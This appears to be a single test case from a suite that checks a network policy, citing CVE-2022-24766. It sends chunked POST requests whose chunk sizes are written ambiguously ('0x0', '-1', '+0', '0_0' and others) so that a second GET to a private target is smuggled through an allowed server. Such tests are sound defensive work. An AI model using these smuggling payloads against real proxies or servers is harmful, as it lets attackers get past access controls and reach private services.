// technique: gives a chunk a size that is read in two ways
// source: CVE-2022-24766; chunk sizes in radix or overflow
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { chunked, get, PRIVATE, PUBLIC, post, say } from './wire.mjs';

for (const size of ['0x0', '-1', '100000000000000000', '0 ', '+0', '0_0'])
  await say(process.env.ALLOWED_HTTP, [post(PUBLIC, chunked, `${size}\r\n\r\n${get(PRIVATE)}`)]);
